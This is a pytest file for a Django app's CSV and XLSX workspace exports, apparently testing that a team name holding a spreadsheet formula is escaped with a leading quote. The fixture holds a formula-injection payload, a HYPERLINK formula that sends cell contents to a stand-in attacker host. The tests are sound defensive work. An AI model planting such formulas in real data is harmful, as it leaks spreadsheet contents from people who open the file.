"""The workspace exports write a cell a spreadsheet would run as a formula as text."""
import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from gis_app.enforcement.models import Team

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def world(db):
    from tests.layers.conftest import build_world
    world = build_world()
    Team.objects.filter(pk=world.cases["overdue"].team_id).update(name=FORMULA)
    return world


def _get(world, path):
    client = Client()
    client.force_login(world.users["command"])
    return client.get(path, {"overdue": "1"})


def test_csv_export_escapes_a_formula_team_name(world):
    response = _get(world, "/workspace/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][rows[0].index("承办队伍")] == "'" + FORMULA


def test_xlsx_export_escapes_a_formula_team_name(world):
    sheet = load_workbook(io.BytesIO(_get(world, "/workspace/export.xlsx").content)).active
    values = list(sheet.values)
    cell = values[1][values[0].index("承办队伍")]
    assert cell == "'" + FORMULA
